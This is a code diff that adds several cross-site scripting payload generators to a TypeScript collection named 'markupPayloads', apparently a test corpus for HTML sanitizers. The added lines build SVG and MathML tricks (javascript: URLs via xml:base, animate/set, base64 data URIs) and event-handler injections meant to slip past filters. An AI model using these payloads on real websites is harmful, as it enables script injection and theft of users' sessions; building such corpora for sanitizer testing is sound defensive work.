@@ -109,6 +109,7 @@ export const markupPayloads: Readonly<Record<string, readonly Payload[]>> = {
     (code) => `<div onscroll=${code} onscrollend=${code} onwheel=${code}>x</div>`,
     (code) => `<p oncopy=${code} onkeydown=${code} ontouchstart=${code} ondragstart=${code}>x</p>`,
     (code) => `<x-element onclick=${code} onmousemove=${code}>x</x-element>`,
+    (code) => `<price onclick=${code}>x</price><x-a.b><x-c onclick=${code}>x</x-c></x-a.b>`,
     (code) => `<p/onclick=${code}/onmouseover=${code}>x</p>`,
     (code) => `<p title="x"onclick="${code}">x</p>`,
     (code) => `<p title='"' onclick='${code}'>x</p>`,
@@ -205,6 +206,13 @@ export const markupPayloads: Readonly<Record<string, readonly Payload[]>> = {
     (code) => `<math><mi xlink:href="javascript:${code}">x</mi></math>`,
     (code) => `<math><maction actiontype="statusline#x" xlink:href="javascript:${code}">x</maction></math>`,
     (code) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${code}></annotation-xml></math>`,
+    (code) => `<svg><a xml:base="javascript:${code}//" href="#"><text y=20>x</text></a></svg>`,
+    (code) => `<svg><foreignObject><a href="javascript:${code}">x</a></foreignObject></svg>`,
+    (code) =>
+      `<svg><a id=x><text y=20>x</text></a><animate href="#x" attributeName=href to="javascript:${code}"/><set href="#x" attributeName=onclick to=${code}></svg>`,
+    (code) => `<use></use><svg><use href="data:image/svg+xml;base64,${base64(svgWith(code))}#x"/></svg>`,
+    (code) =>
+      `<math><semantics><annotation-xml encoding="text/html"><a href="javascript:${code}">x</a></annotation-xml></semantics></math>`,
   ],
   'markup that changes when it is parsed again': [
     (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>"></noscript>`,
